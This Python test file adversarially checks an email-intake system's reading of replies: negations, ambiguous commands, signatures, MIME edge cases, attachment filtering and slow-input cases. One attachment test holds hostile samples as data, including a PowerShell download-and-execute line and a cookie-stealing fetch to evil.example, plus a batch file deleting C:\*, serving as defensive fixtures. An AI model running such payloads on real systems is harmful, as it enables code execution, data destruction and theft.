"""Adversarial review of #15's mail reading: each test is an attack or a careless client's mail that the reading gets
wrong today (a command taken against the person's words, a reason that loses them or leaks what they did not
write, a readable message set aside, a file kept that must not be, a wrong route, field or date, or a call that
takes seconds on a mail of 100 KB)."""

from __future__ import annotations

import base64
import time
from collections.abc import Callable
from datetime import date, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from functions.core.commands import Command, Decision
from functions.core.inbound import InboundMessage
from functions.core.model import Process
from functions.core.rendering import Renderer, local_time
from functions.core.settings import Settings
from functions.intake.commands import Reading, read_reply
from functions.intake.dates import find_date
from functions.intake.fields import environment_in, read_fields
from functions.intake.html_text import html_to_text
from functions.intake.parser import parse_message
from functions.intake.quotes import split_reply, without_boilerplate
from functions.intake.routing import ROUTES, route
from functions.questions.workflow import QUESTION_DECISION

OSLO = ZoneInfo("Europe/Oslo")
NOW = datetime(2026, 12, 1, 13, 0, tzinfo=OSLO)

APPROVE = Command("approve", ("GODKJENT", "APPROVE", "APPROVED"))
REJECT = Command("reject", ("AVSLÅTT", "REJECT", "REJECTED"))
DEFER = Command("defer", ("UTSATT", "DEFER", "DEFERRED"))


async def _never(*_: object) -> object:
    raise AssertionError("not called")


# The reference group's decision on a change request (changes/workflow.py DECIDE_DECISION has these words).
DECIDE = Decision("decide", (APPROVE, REJECT, DEFER), frozenset({"new"}), _never)  # type: ignore[arg-type]

ALLOWED = tuple(Settings.model_fields["attachment_types"].default_factory())  # type: ignore[misc,call-arg]  # what is kept by default
HEADERS = (
    "From: Kari Nordmann <kari@forsikring.example>\nTo: ssu@bits.example\n"
    "Subject: SV: [SSU-E-2026-0001] Beslutning\nMessage-ID: <attack@forsikring.example>\n"
    "Date: Tue, 01 Dec 2026 12:30:00 +0100\nMIME-Version: 1.0\n"
)
ATTRIBUTION = "tir. 1. des. 2026 kl. 10:12 skrev Bits <ssu@bits.example>:\n> Svar GODKJENT, AVSLÅTT eller UTSATT"


def parsed(raw: bytes) -> InboundMessage:
    return parse_message(raw, max_attachment_bytes=10 * 1024 * 1024, allowed_types=ALLOWED)


def plain(body: str, params: str = "") -> bytes:
    content = f"Content-Type: text/plain; charset=utf-8{params}\nContent-Transfer-Encoding: 8bit\n"
    return f"{HEADERS}{content}\n{body}\n".encode()


def multipart(parts: list[str], kind: str = "mixed", headers: str = HEADERS) -> bytes:
    body = "".join(f"--BND\n{part}\n" for part in parts) + "--BND--\n"
    return f'{headers}Content-Type: multipart/{kind}; boundary="BND"\n\n{body}'.encode()


def text_part(text: str) -> str:
    return f"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{text}"


def file_part(name: str, data: bytes, declared: str, disposition: str = "attachment", extra: str = "") -> str:
    return (
        f'Content-Type: {declared}; name="{name}"\nContent-Disposition: {disposition}; filename="{name}"\n{extra}'
        f"Content-Transfer-Encoding: base64\n\n{base64.b64encode(data).decode()}"
    )


def reading(body: str, decision: Decision = DECIDE) -> Reading:
    return read_reply(parsed(plain(body)), decision)


def decided(found: Reading) -> tuple[str | None, str, str | None]:
    return (found.command.name if found.command else None, found.text, found.problem)


def took(seconds: float, call: Callable[..., Any], *args: Any, **kwargs: Any) -> float:
    """The best of two runs, so that a pause of the machine is not taken for slowness."""
    best = seconds * 100
    for _ in range(2):
        start = time.perf_counter()
        call(*args, **kwargs)
        best = min(best, time.perf_counter() - start)
        if best < seconds:
            break
    return best


# -- commands: a wrong decision ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        # Plain-text clients (Outlook in plain text, Gmail's plain text mode, Roundcube) hard-wrap at 72-78
        # columns without format=flowed: the negation ends one line, the command opens the next in capitals.
        "Vi har diskutert saken i styret og konkluderte med at det ikke blir\nGODKJENT denne gangen.",
        "We have NOT\nAPPROVED this.",
        "Jeg kan ikke si at det er\nGODKJENT",
    ],
)
def test_a_negation_the_client_wrapped_onto_the_line_above_is_no_approval(body: str) -> None:
    # Today: ('approve', 'Vi har diskutert … ikke blir\ndenne gangen.', None) - the opposite of what was said.
    assert reading(body).command is None


def test_a_negation_in_the_html_block_above_the_command_is_no_approval() -> None:
    html = f"{HEADERS}Content-Type: text/html; charset=utf-8\n\n<div>Vi har <b>ikke</b></div><div>GODKJENT</div>\n"
    assert read_reply(parsed(html.encode()), DECIDE).command is None


@pytest.mark.parametrize(
    "body",
    [
        "GODKJENT\n\nVi har diskutert det. AVSLÅTT er riktig.",  # a second command after a full stop
        "GODKJENT\nMen egentlig AVSLÅTT",  # in capitals at the end of a line
        "GODKJENT\n\n1. AVSLÅTT",  # a numbered list
        "GODKJENT\n\n«AVSLÅTT»",  # in Norwegian quotation marks
        "GODKJENT\n\nBeslutning: AVSLÅTT",  # after a label
        "GODKJENT\n\n\u00a0AVSLÅTT",  # a no-break space at the start of the line (Outlook's plain text)
        "GODKJENT\n\n\u200bAVSLÅTT",  # a zero-width space from a copied text
        "GODKJENT\n\nAVSLA\u030aTT",  # Å decomposed (NFD), as macOS writes it when pasted from a file name
        "GODKJENT\n\nMvh Kari\n\nPS: Beklager, skulle stått AVSLÅTT.",  # a second command after the sign-off
    ],
)
def test_two_different_commands_anywhere_in_the_own_text_are_ambiguous(body: str) -> None:
    # README: "Two different commands anywhere in it … get a clarification". Today all of these approve.
    assert decided(reading(body)) == (None, "", "ambiguous")


@pytest.mark.parametrize(
    "body",
    [
        "GODKJENT. Nei forresten, ikke godkjent.",
        "GODKJENT\nNei vent, IKKE godkjent likevel",
        "GODKJENT\nmen ikke før mars",  # the command's sentence goes on, lower case, on the next line
    ],
)
def test_the_command_taken_back_in_the_same_reply_is_no_approval(body: str) -> None:
    assert reading(body).command is None


def test_a_lone_reject_written_with_a_decomposed_a_ring_is_read() -> None:
    # NFD "AVSLÅTT" (A + U+030A) is the same word; today it is not even seen: ('None', '', 'empty').
    assert decided(reading("AVSLA\u030aTT")) == ("reject", "", None)


@pytest.mark.parametrize(
    "body",
    [
        "Feil i dokumentasjonen, vi retter det. Feltet heter uforegrad.",
        "Hei Kari,\n\nFeil felt: bruk uforegrad i stedet.",
        "Endring av feltnavnet kommer i mars; bruk uforegrad inntil videre.",
        "Error codes are described in the API portal.",
        "Change the scope to nav:ufore and it works.",
        "Forward-kompatibilitet er sikret i versjon 2.",  # FORWARD inside a hyphenated compound
    ],
)
def test_bits_answer_that_opens_with_a_common_word_is_relayed_not_a_command(body: str) -> None:
    # The question decision takes plain text as the answer to relay. Today "Feil …" turns the question into an error
    # report, "Endring …" into a change request and "Forward-…" asks NAV: the asker never gets the answer, and the
    # stored reason is the sentence without its first word.
    found = reading(body, QUESTION_DECISION)
    assert found.command is None and found.problem is None
    assert found.text.endswith(body.split("\n")[-1])


# -- commands: disclaimers, signatures, greetings and names ----------------------------------------------------------


def test_a_disclaimer_right_under_the_reason_is_no_negation() -> None:
    # Issue #15: "Legal disclaimers never count as negations". Today: (None, '', 'negated').
    body = (
        "GODKJENT - vi trenger det\nCONFIDENTIALITY NOTICE: This e-mail is not for you if you are not the intended "
        "recipient. If you received it in error, delete it."
    )
    assert decided(reading(body)) == ("approve", "vi trenger det", None)


def test_a_disclaimer_right_under_the_command_is_not_the_reason() -> None:
    body = "GODKJENT\nDenne e-posten kan inneholde konfidensiell informasjon. Hvis du ikke er rett mottaker, slett den."
    assert decided(reading(body)) == ("approve", "", None)


@pytest.mark.parametrize(
    "body",
    [
        "GODKJENT\n\nKari Nordmann\nRådgiver, Forsikring ASA\nTlf 99 99 99 99",  # Outlook's signature, no "Mvh"
        "Godkjent. Mvh Kari",  # a phone reply: the sign-off on the command's line
        "GODKJENT, mvh Kari",
    ],
)
def test_a_signature_is_not_the_reason(body: str) -> None:
    assert decided(reading(body)) == ("approve", "", None)


def test_a_greeting_line_with_the_reason_in_it_keeps_the_reason() -> None:
    # The greeting rule eats up to 40 characters of anything after "Hei": here the whole reason. Today ('reject', '').
    found = reading("Hei, dette er altfor dyrt for oss\nAVSLÅTT")
    assert found.command == REJECT and "altfor dyrt for oss" in found.text


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        # The lone-name rule takes the end of a sentence for a first name.
        ("AVSLÅTT\nVi bruker heller\nMaskinporten", "Vi bruker heller\nMaskinporten"),
        # Quoting someone is not an attribution of the quoted history.
        ("AVSLÅTT\nNAV skrev:\nIkke før 2028.", "NAV skrev:\nIkke før 2028."),
        # Two disclaimer phrases ("ved en feil", "ikke riktig mottaker") in a real reason.
        (
            "AVSLÅTT\n\nVi har fått data ved en feil, og ikke riktig mottaker har fått dem.",
            "Vi har fått data ved en feil, og ikke riktig mottaker har fått dem.",
        ),
        (
            "AVSLÅTT\n\nViktig: dette gir feil data ved en feil i API-et.",
            "Viktig: dette gir feil data ved en feil i API-et.",
        ),
        # A line opening like an attribution ("Den …") right above one is joined with it and cut.
        (f"AVSLÅTT\nDen kostnaden er for høy for oss.\n{ATTRIBUTION}", "Den kostnaden er for høy for oss."),
    ],
)
def test_the_reason_keeps_the_persons_own_words(body: str, reason: str) -> None:
    assert decided(reading(body)) == ("reject", reason, None)


# -- format=flowed ---------------------------------------------------------------------------------------------------


def test_flowed_signature_separator_is_never_joined_to_the_line_before_it() -> None:
    # flowed.py: "the signature separator `-- ` is never joined". After a soft line it is: the reason is today
    # 'for dyrt --\nKari Nordmann'.
    raw = plain("AVSLÅTT: for dyrt \n-- \nKari Nordmann\nRådgiver", "; format=flowed")
    assert decided(read_reply(parsed(raw), DECIDE)) == ("reject", "for dyrt", None)


def test_flowed_space_stuffed_greater_than_is_the_persons_text_not_a_quote() -> None:
    # RFC 3676 stuffs a space before a line the person began with '>': unstuffed, it is taken for quoted history.
    raw = plain("AVSLÅTT\n >50 % av kundene bruker det ikke", "; format=flowed")
    assert decided(read_reply(parsed(raw), DECIDE)) == ("reject", ">50 % av kundene bruker det ikke", None)


# -- what a new case keeps of the text -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "paragraph",
    [
        "Vi har ved en feil sendt en e-post med personopplysninger om 40 kunder til feil mottaker hos en "
        "samarbeidspartner. Vi har bedt dem slette e-posten.",
        "A file with customer data was sent in error to an unauthorised recipient. We have asked them to delete it.",
    ],
)
def test_a_breach_report_is_not_cut_as_a_disclaimer(paragraph: str) -> None:
    # The heart of a breach report has two "disclaimer phrases": today without_boilerplate drops it from the case.
    text = f"Hei,\n\n{paragraph}\n\nVi oppdaget det 29.11.2026 kl. 10:55.\n\nMvh\nKari Nordmann"
    assert paragraph in without_boilerplate(text)
    assert paragraph in split_reply(text)[0]


def test_a_hard_wrapped_line_that_starts_like_a_phone_footer_stays_in_the_case() -> None:
    # A plain-text client wrapped the sentence so that a line opens with "sendt fra mobil…": dropped as a footer.
    text = "Hei,\nVi får feil på alle kall som blir\nsendt fra mobil-appen vår, med HTTP 500 fra AAP-API-et.\nMvh Kari"
    assert "HTTP 500 fra AAP-API-et" in without_boilerplate(text)


# -- set aside: readable mail must not be ----------------------------------------------------------------------------


def test_a_report_with_a_broken_message_attached_is_read_not_set_aside() -> None:
    # "Here is the mail we got": forwarded as an attachment, its own MIME broken. walk() descends into it, and the
    # whole, readable report is set aside today (MalformedMessage no_text).
    attached = (
        "Content-Type: message/rfc822\n\nFrom: noreply@nav.example\nSubject: Varsel\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="ZZ"\n\nthe boundary never appears\n'
    )
    message = parsed(multipart([text_part("Vi får HTTP 500 fra uføre-API-et, se vedlagt e-post."), attached]))
    assert "HTTP 500" in message.text


def test_a_broken_part_nested_beside_a_good_text_part_is_no_reason_to_set_aside() -> None:
    nested = 'Content-Type: multipart/related; boundary="QQ"\n\nthe boundary never appears'
    message = parsed(multipart([text_part("GODKJENT: vi trenger det."), nested]))
    assert decided(read_reply(message, DECIDE)) == ("approve", "vi trenger det.", None)


def test_one_stray_nul_byte_in_a_readable_text_is_no_reason_to_set_aside() -> None:
    assert decided(read_reply(parsed(plain("GODKJENT\x00")), DECIDE)) == ("approve", "", None)


def test_text_after_an_inline_image_is_read() -> None:
    # Apple Mail sends text, image, text as three parts of multipart/mixed: the second text part is dropped today.
    image = file_part("skjerm.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 20, "image/png", "inline", "Content-ID: <a1>\n")
    message = parsed(multipart([text_part("AVSLÅTT"), image, text_part("Begrunnelse: for dyrt, se bildet.")]))
    assert decided(read_reply(message, DECIDE)) == ("reject", "Begrunnelse: for dyrt, se bildet.", None)


# -- attachments -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "declared"),
    [
        ("faktura.hta", b'<script>new ActiveXObject("WScript.Shell").Run("calc")</script>', "application/octet-stream"),
        ("faktura.vbs", b'CreateObject("WScript.Shell").Run "calc"', "application/octet-stream"),
        ("fiks.bat", b"@echo off\r\ndel /q C:\\*\r\n", "application/octet-stream"),
        ("fiks.cmd", b"@echo off\r\npowershell -enc AAAA\r\n", "application/octet-stream"),
        ("fiks.ps1", b"Invoke-WebRequest https://evil.example/x | Invoke-Expression", "text/plain"),
        ("logg.html", b"<html><script>fetch('https://evil.example/?'+document.cookie)</script></html>", "text/plain"),
        ("bilde.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "text/plain"),
    ],
)
def test_a_script_is_not_kept_whatever_label_it_has(name: str, data: bytes, declared: str) -> None:
    # Sniffed as "text" (or trusted as text/plain), these are kept under their own names today: one double-click on
    # Bits' machine runs them.
    message = parsed(multipart([text_part("Se vedlegg."), file_part(name, data, declared)]))
    (found,) = message.attachments
    assert found.refused == "type" and not found.content


def test_a_zip_named_docx_that_is_no_word_document_is_not_kept() -> None:
    # A Word file is a zip with [Content_Types].xml; this one holds only an executable.
    data = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\0" * 16 + b"\x08\x00\x00\x00evil.exeMZ\x90\x00" + b"\0" * 40
    message = parsed(multipart([text_part("Se vedlegg."), file_part("skjema.docx", data, "application/octet-stream")]))
    (found,) = message.attachments
    assert found.refused == "type" and not found.content


def test_an_image_in_a_plain_text_mail_is_a_file_not_a_picture_in_the_text() -> None:
    # Nothing in a text/plain body can show an image: the screenshot attached on an iPhone (inline, Content-ID) is a
    # file the person sent, and must be listed to Bits by name, not counted as "a logo in the signature".
    image = file_part(
        "feilmelding.jpeg", b"\xff\xd8\xff\xe0" + b"\0" * 40, "image/jpeg", "inline", "Content-ID: <IMG_0001>\n"
    )
    message = parsed(multipart([text_part("Vi får denne feilen, se bildet."), image]))
    (found,) = message.attachments
    assert not found.inline


def test_the_submitter_is_not_told_that_a_signature_logo_or_an_smime_signature_was_not_kept() -> None:
    logo = file_part("image001.gif", b"GIF89a" + b"\0" * 20, "image/gif", "inline", "Content-ID: <image001.gif@01>\n")
    signature = file_part("smime.p7s", b"0\x82\x01\x00", "application/pkcs7-signature")
    html = (
        "Content-Type: text/html; charset=utf-8\n\n<p>Vi får HTTP 500.</p><p>Mvh Kari</p>"
        '<img src="cid:image001.gif@01">'
    )
    signed = multipart(
        [
            f'Content-Type: multipart/related; boundary="REL"\n\n--REL\n{html}\n--REL\n{logo}\n--REL--',
            signature,
        ],
        kind='signed; protocol="application/pkcs7-signature"',
    )
    message = parsed(signed)
    metadata = [
        {"filename": a.filename, "size": a.size, "inline": a.inline, "refused": a.refused} for a in message.attachments
    ]
    rendered = (
        Renderer()
        .env.get_template("base/attachments_not_kept.txt")
        .render(text={"attachments": metadata}, language="nb", max_mb=10)
    )
    assert "image001.gif" not in rendered and "smime.p7s" not in rendered


def test_each_attachment_not_kept_is_on_a_line_of_its_own() -> None:
    # trim_blocks eats the line break after `{% endif %}`: today "… Word eller Excel- b.zip: …" on one line.
    metadata = [{"filename": name, "size": 10, "inline": False, "refused": "type"} for name in ("a.exe", "b.zip")]
    rendered = (
        Renderer()
        .env.get_template("base/attachments_not_kept.txt")
        .render(text={"attachments": metadata}, language="nb", max_mb=10)
    )
    assert "\n- b.zip:" in rendered


# -- routing and fields ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("subject", "text"),
    [
        ("Spørsmål om avtalen", "Vi fikk 500 nye kunder i fjor. Hvordan skalerer vi avtalen?"),
        ("Spørsmål om fakturaen", "Fakturaen gir 500 kroner for mye, hvorfor?"),
        ("Spørsmål", "Hvilket endepunkt skal vi bruke for uføre?"),
        ("Question", "Is there an exception for small companies in the agreement?"),
    ],
)
def test_a_question_with_an_innocent_number_or_word_is_a_question(subject: str, text: str) -> None:
    found = route((), subject, text, {})
    assert (found.process, found.kind) == (Process.QUESTION, "question")


@pytest.mark.parametrize(
    ("subject", "text", "expected"),
    [
        ("Spørsmål", "Vi er ikke i produksjon ennå. Når kan vi begynne?", None),  # not production: it says so
        ("Spørsmål fra TEST FORSIKRING ASA", "Hvordan fungerer samtykke?", None),  # a company's name in capitals
    ],
)
def test_the_environment_is_not_read_from_a_negation_or_a_company_name(
    subject: str, text: str, expected: str | None
) -> None:
    assert environment_in(subject, text) == expected


def _breach(body: str) -> dict[str, Any]:
    message = parsed(plain(body).replace(b"Subject: SV: [SSU-E-2026-0001] Beslutning", b"Subject: Personvernbrudd"))
    return read_fields(message, ROUTES["C-security"], NOW)


def test_a_discovery_date_without_a_year_is_that_date_not_today() -> None:
    # "29.11 kl. 10:55" is how people write a date this year; today it becomes *today* 10:55, two days late: the
    # 72-hour deadline to Datatilsynet is counted from the wrong time.
    assert _breach("Vi oppdaget bruddet 29.11 kl. 10:55.").get("discovered_at") == "2026-11-29T10:55:00+01:00"


def test_the_discovery_time_is_never_read_from_the_quoted_history() -> None:
    body = "Vi har oppdaget et sikkerhetsbrudd.\n\nDen 3.11.2026 kl. 10:12 skrev Bits <ssu@bits.example>:\n> Hei"
    assert "discovered_at" not in _breach(body)


def test_a_discovery_time_from_year_one_is_not_stored() -> None:
    # A datetime of year 1 (Oslo's local mean time, +00:43) cannot even be shown in Norwegian time.
    found = _breach("Bruddet ble oppdaget 01.01.0001 kl. 00:10.").get("discovered_at")
    assert found is None or local_time(found)


def test_a_deferral_goes_to_the_date_ahead_not_to_a_date_the_reason_mentions_before_it() -> None:
    text = "Vi diskuterte det på møtet 12.11.2026 og tar det opp igjen 1.3.2027."
    assert find_date(text, date(2026, 12, 1), ahead=True) == date(2027, 3, 1)


# -- time: every sender can make us read 100 KB ----------------------------------------------------------------------


def test_split_reply_is_linear_in_blank_lines_above_a_sign_off() -> None:
    # _cut_signature drops trailing blank lines one list copy at a time: quadratic (40 K lines: 0.4 s, 80 K: 1.6 s;
    # 1 MB: minutes).
    text = "GODKJENT" + "\n" * 40_000 + "Mvh Kari"
    assert took(0.1, split_reply, text, sender_name="Kari", keep=["GODKJENT"]) < 0.1


def test_split_reply_is_linear_in_a_long_line_after_one_that_opens_like_an_attribution() -> None:
    # The joined attribution candidate is not bounded (only its first line is): `skrev|wrote … :$` backtracks over
    # it for each "wrote" - 48 KB take 0.4 s, 96 KB 1.7 s.
    text = "GODKJENT\nOn\n" + "wrote:" * 8_000 + " \nx"
    assert took(0.1, split_reply, text, sender_name="Kari", keep=["GODKJENT"]) < 0.1


def test_read_reply_on_100_kb_of_short_lines_is_fast() -> None:
    # A regex built per line per command word, in split_reply's keep check and in _words_in: 0.8 s for 100 KB.
    message = parsed(plain("x\n" * 50_000))
    assert took(0.25, read_reply, message, DECIDE) < 0.25


def test_html_to_text_on_unclosed_tags_is_fast() -> None:
    # html.parser rescans an unclosed start tag from the start on every step (CPython gh-135661): 30 KB of "<a"
    # take 0.3 s, 80 KB 3 s, 1 MB minutes; HTML-only mail from anyone goes through it before any check.
    assert took(0.1, html_to_text, "<a" * 15_000) < 0.1
